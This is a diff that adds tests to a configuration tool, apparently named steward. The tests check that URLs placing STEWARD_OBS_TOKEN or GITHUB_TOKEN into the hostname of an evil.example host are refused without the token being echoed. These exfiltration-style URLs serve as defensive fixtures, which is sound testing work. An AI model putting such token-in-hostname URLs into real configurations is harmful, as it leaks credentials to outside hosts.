@@ -106,6 +106,36 @@ test('a pull request writing its own url into steward.yaml is refused, though th
   }
 });
 
+const TOKEN = 'Mixed-Case-Token-Value-0042';
+const LEAKS: Array<[url: string, allowedHosts: string | undefined, shown: string]> = [
+  [
+    'https://${STEWARD_OBS_TOKEN}.evil.example',
+    'api.hyperdx.io',
+    'url names the host of https://${STEWARD_OBS_TOKEN}.evil.example, which STEWARD_ALLOWED_HOSTS',
+  ],
+  ['https://x.${GITHUB_TOKEN}.evil.example/v2', 'api.hyperdx.io', 'url names the host of https://x.${GITHUB_TOKEN}.evil.example/v2, which'],
+  ['http://${STEWARD_OBS_TOKEN}.evil.example', undefined, 'url uses plain http to the host of http://${STEWARD_OBS_TOKEN}.evil.example:'],
+];
+
+for (const [url, allowedHosts, shown] of LEAKS) {
+  test(`a url reading a token into its host (${url}) is refused without printing the token in lower case`, async () => {
+    const x = await examplesWithEmulator();
+    try {
+      const f = join(x.dir, 'steward.yaml');
+      writeFileSync(f, readFileSync(f, 'utf8').replace('url: ${STEWARD_OBS_URL}', `url: ${url}`));
+      const env = { ...x.env, STEWARD_OBS_TOKEN: TOKEN, GITHUB_TOKEN: TOKEN, ...(allowedHosts ? { STEWARD_ALLOWED_HOSTS: allowedHosts } : {}) };
+      const r = await steward(['plan'], { cwd: x.dir, env });
+      assert.is(r.code, 1, r.stdout + r.stderr);
+      assert.match(r.stderr, /^steward\.yaml:\d+:\d+ {2}\/spec\/observability\/url {2}/);
+      assert.match(r.stderr, shown);
+      assert.not.match((r.stdout + r.stderr).toLowerCase(), TOKEN.toLowerCase(), 'the token, as the URL parser wrote it');
+      assert.is(x.emu.requests().length, 0);
+    } finally {
+      await x.cleanup();
+    }
+  });
+}
+
 test('a malformed variable is one line naming the entry, exit 1', async () => {
   const x = await examplesWithEmulator();
   try {
